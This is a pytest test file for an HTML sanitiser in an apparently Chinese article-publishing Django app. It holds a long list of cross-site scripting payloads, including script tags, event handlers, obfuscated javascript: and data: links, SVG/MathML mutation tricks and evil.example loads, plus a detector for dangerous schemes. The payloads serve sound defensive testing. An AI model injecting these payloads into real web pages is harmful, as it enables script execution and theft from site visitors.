"""The sanitiser lets only safe, known HTML through (scenario 46)."""

import re
from html.parser import HTMLParser

import pytest
from django.utils.html import escape
from hypothesis import given
from hypothesis import strategies as st

from articles.text.file_addresses import file_digests
from articles.text.plain_text import plain_text
from articles.text.sanitising import ALLOWED_TAGS, sanitise

KNOWN_ATTRIBUTES = {
    *[
        "href",
        "title",
        "rel",
        "src",
        "alt",
        "width",
        "height",
        "start",
        "colspan",
        "rowspan",
        "scope",
        "class",
        "lang",
        "id",
    ]
}
BLANK = "".join(map(chr, range(0x21)))
ALIGNED = {"align-left", "align-center", "align-right", "align-justify"}


class Reader(HTMLParser):
    """Reads HTML as a stranger does: every element and attribute, wherever it stands."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_startendtag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        self.elements.append(("comment", {}))

    def handle_decl(self, decl):
        self.elements.append(("declaration", {}))

    def handle_pi(self, data):
        self.elements.append(("instruction", {}))

    def unknown_decl(self, data):
        self.elements.append(("declaration", {}))


def dangers(html: str) -> list[str]:
    """What a reader finds in sanitised HTML that must not be there."""
    found = []
    for tag, attributes in Reader(html).elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"<{tag}>")
        found += [f"{tag} {name}" for name in attributes if name not in KNOWN_ATTRIBUTES]
        # As browsers read an address (WHATWG URL, 4.4): ends of lines and tabs go, and what is blank at its beginning.
        link = re.sub(r"[\t\r\n]", "", attributes.get("href") or "").lower().lstrip(BLANK)
        if link.partition(":")[0] in ("javascript", "data", "vbscript", "file", "blob"):
            found.append(link)
        if tag == "img" and not (attributes.get("src") or "").startswith("/files/"):
            found.append(f"picture {attributes.get('src')}")
        if "id" in attributes and not re.fullmatch(r"fn-\d{1,4}|fnref-\d{1,4}", attributes["id"] or "", re.ASCII):
            found.append(f"id {attributes['id']}")
        found += [f"class {name}" for name in (attributes.get("class") or "").split() if name not in ALIGNED]
    return found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\x00>alert(1)</script>",
    "<p onclick=alert(1)>x</p>",
    "<p ONCLICK='alert(1)'>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    '<img src="/files/x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#10;script&colon;alert(1)">x</a>',
    '<a href="java&#8;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href=" DATA:text/html,x">x</a>',
    '<a href="da&#9;ta:text/html,x">x</a>',
    '<a href="&#1;data:text/html,x">x</a>',
    '<a href="d&#8;ata:text/html,x">x</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "<svg onload=alert(1)>x</svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="text-align:center;position:fixed;inset:0">x</p>',
    '<p style="text-align:expression(alert(1))">x</p>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="//evil.example/x.png" srcset="//evil.example/y.png 2x">',
    '<p class="site-header footer visually-hidden">x</p>',
    '<p id="reads" name="location">x</p>',
    '<li id="reads">x</li><a id="close" name="print" href="#content">x</a>',
    '<li id="fn-1x">x</li><a id="fnref-" href="#fn-１">x</a><p id="fn-1">x</p><li id="fnref-1">x</li>',
    '<a title="&quot; onmouseover=&quot;alert(1)" href="/x">x</a>',
    "<a href='/x' title='\"><script>alert(1)</script>'>x</a>",
    '<p title="`onmouseover=alert(1)">x</p>',
    "<select><script>alert(1)</script></select>",
    "<table><td background='javascript:alert(1)'>x</table>",
    "<p>\x00<script>alert(1)</script></p>",
    "<img src=`javascript:alert(1)`>",
    '<img src="javascript:alert(1)">',
    '<img src="file:///C:/Temp/clip_image001.png">',
    "<img>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_input_leaves_harmless(html):
    """Scenario 46."""
    for surrounded in (html, f"<p>前文</p>{html}<p>后文</p>"):
        cleaned = sanitise(surrounded).html
        assert dangers(cleaned) == []
        assert sanitise(cleaned).html == cleaned


def test_the_words_around_hostile_input_stay():
    cleaned = sanitise("<p>前文</p><script>alert(1)</script><p onclick=alert(1)>后文</p>").html
    assert cleaned == "<p>前文</p><p>后文</p>"


fragments = st.sampled_from(
    [
        *HOSTILE,
        *["<p>", "</p>", "<td>", "<table>", "</table>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>"],
        *["<!--", "-->", "<a href='", '"', "'", ">", "<", "&", "&lt;", "&#x0;", "\x00", "\x08", "&nbsp;", "<br>", "\n"],
        *[
            "<img src='/files/",
            "0" * 64,
            ".png'",
            " onload=x ",
            " style='text-align:right'",
            " align=center ",
            "组织部",
        ],
    ]
)


@given(st.lists(fragments | st.text(max_size=20), max_size=12).map("".join))
def test_what_was_sanitised_is_harmless_and_stays_as_it_is(html):
    """Scenario 46."""
    cleaned = sanitise(html).html
    assert "<script" not in cleaned.lower()
    assert dangers(cleaned) == []
    assert sanitise(cleaned).html == cleaned


@given(st.text(st.characters(exclude_categories=["Cc", "Cs", "Zs", "Zl", "Zp"]), min_size=1))
def test_words_that_look_like_markup_stay_words(words):
    html = f"<p>{escape(words)}</p>"
    assert plain_text(sanitise(html).html).strip() == words.replace("\ufffe", "").replace("\uffff", "")


# What is kept.

PICTURE = f"/files/{'0' * 64}.png"


@pytest.mark.parametrize(
    "html",
    [
        "<p>一<br>二</p>",
        "<h2>一</h2><h3>二</h3><h4>三</h4>",
        "<p><strong>一</strong><em>二</em><u>三</u><s>四</s><sub>五</sub><sup>六</sup></p>",
        '<ul><li>一</li></ul><ol start="3"><li>二</li></ol>',
        "<blockquote><p>一</p></blockquote><hr>",
        '<table><caption>表</caption><thead><tr><th scope="col">一</th></tr></thead></table>',
        '<table><tbody><tr><td colspan="2" rowspan="3">二</td></tr></tbody></table>',
        f'<figure><img src="{PICTURE}" width="600" height="400" alt="图"><figcaption>说明</figcaption></figure>',
        '<p class="align-center">一</p>',
        '<p><a href="https://www.gov.cn/?a=1&amp;b=2" rel="noopener noreferrer">一</a></p>',
        '<p><a href="mailto:szdd@example.org" rel="noopener noreferrer">一</a></p>',
        f'<p><a href="{PICTURE}" rel="noopener noreferrer">一</a></p>',
        "<p>“三结对”〔2013〕5号 &lt; &amp; 𠮷</p>",
    ],
)
def test_what_an_article_needs_is_kept_as_it_is(html):
    assert sanitise(html).html == html
    assert sanitise(html).lost == []


FOOTNOTE = (
    '<p>正文<sup><a href="#fn-1" id="fnref-1" rel="noopener noreferrer">[1]</a></sup>。</p><hr>'
    '<ol><li id="fn-1"><p>脚注 <a href="#fnref-1" rel="noopener noreferrer">↑</a></p></li></ol>'
)


def test_a_footnote_keeps_its_mark_and_its_way_back():
    assert sanitise(FOOTNOTE).html == FOOTNOTE
    assert sanitise(FOOTNOTE).lost == []


def test_an_id_that_stands_twice_is_kept_once():
    assert sanitise(FOOTNOTE + FOOTNOTE).html.count('id="fn-1"') == 1


@pytest.mark.parametrize("target", ["#content", "#", "#_Toc123", "#fn-0", "#fn-1 2x", "#fn-12345", "#FN-１"])
def test_a_text_leads_to_no_other_place_of_the_page(target):
    assert sanitise(f'<p><a href="{target}">字</a></p>').html == '<p><a rel="noopener noreferrer">字</a></p>'


@pytest.mark.parametrize(
    ("html", "side"),
    [
        ('<p style="text-align:center">x</p>', "center"),
        ('<p style="text-align: right;">x</p>', "right"),
        ('<p style="TEXT-ALIGN: Center">x</p>', "center"),
        ('<p style="color:red;text-align:justify;font-size:22pt">x</p>', "justify"),
        ('<p style="text-align:end">x</p>', "right"),
        ('<p align="right">x</p>', "right"),
        ("<p align=CENTER>x</p>", "center"),
        ('<p class="MsoNormal align-right">x</p>', "right"),
        ('<h2 style="text-align:center">x</h2>', "center"),
        ('<div align="center">x</div>', "center"),
    ],
)
def test_alignment_becomes_a_class_so_that_no_style_is_needed(html, side):
    cleaned = sanitise(html).html
    assert f'class="align-{side}"' in cleaned
    assert "style" not in cleaned and "MsoNormal" not in cleaned


@pytest.mark.parametrize("html", ['<p style="text-align:inherit">x</p>', '<p align="char">x</p>', '<p style="">x</p>'])
def test_an_alignment_that_is_none_leaves_no_class(html):
    assert sanitise(html).html == "<p>x</p>"


def test_numbers_of_tables_and_lists_are_bounded():
    html = '<table><tbody><tr><td colspan="99999" rowspan="2">x</td></tr></tbody></table>'
    assert sanitise(html).html == '<table><tbody><tr><td rowspan="2">x</td></tr></tbody></table>'


def test_what_word_leaves_behind_goes_and_its_words_stay():
    html = (
        '<p class="MsoNormal" style="mso-para-margin:0"><span lang="EN-US" style="font-family:仿宋_GB2312">第一'
        "<o:p></o:p></span></p><p>&nbsp;</p><p> <br></p><st1:place>第二</st1:place><font size=5>第三</font>"
    )
    assert sanitise(html).html == "<p>第一</p>第二第三"


def test_characters_that_no_feed_can_hold_are_taken_out():
    assert sanitise("<p>组\x08织\x0b部\x00</p>").html == "<p>组织部</p>"
    assert not any(sign < " " for sign in sanitise("<p>组&#8;织&#x1f;部</p>").html)
    assert sanitise("<p>一\n二\t三</p>").html == "<p>一\n二\t三</p>"


def test_many_blanks_before_a_word_are_answered():
    """A pattern that tries every way to read them would never come to an end."""
    assert plain_text(sanitise("<p>" + "\u00a0 &nbsp;" * 200 + "字</p>").html).strip() == "字"


# The words alone.


def test_the_words_of_a_text_stand_on_a_line_a_paragraph():
    html = sanitise("<h2>标题</h2><p>甲<strong>乙</strong>丙&lt;丁<br>戊</p><ul><li>己</li></ul>").html
    assert [line for line in plain_text(html).splitlines() if line] == ["标题", "甲乙丙<丁", "戊", "己"]


def test_the_words_of_an_attribute_are_no_words_of_the_text():
    assert plain_text(sanitise('<p><a href="/x" title="1 > 2">链接</a></p>').html).strip() == "链接"


def test_the_files_of_a_text_are_found_once_each_in_order():
    one, two = "1" * 64, "2" * 64
    html = f'<p><img src="/files/{two}.png"><a href="/files/{one}.png">x</a><img src="/files/{two}.png"></p>'
    assert file_digests(sanitise(html).html) == [two, one]
